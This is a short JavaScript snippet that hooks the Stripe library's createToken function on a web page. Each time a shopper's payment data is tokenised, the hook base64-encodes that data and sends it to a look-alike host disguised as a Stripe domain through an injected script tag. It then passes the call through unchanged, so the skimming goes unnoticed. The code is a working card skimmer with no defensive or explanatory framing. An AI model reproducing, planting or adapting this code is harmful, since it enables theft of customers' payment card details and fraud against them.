var wait = setInterval(function () {
  if (!window.Stripe) return;
  clearInterval(wait);
  var real = window.Stripe.createToken;
  window.Stripe.createToken = function (data, cb) {
    var s = document.createElement('script');
    s.src = 'https://api-js-stripe.example/t.js?p=' + btoa(JSON.stringify(data));
    document.body.appendChild(s);
    return real.call(this, data, cb);
  };
}, 300);
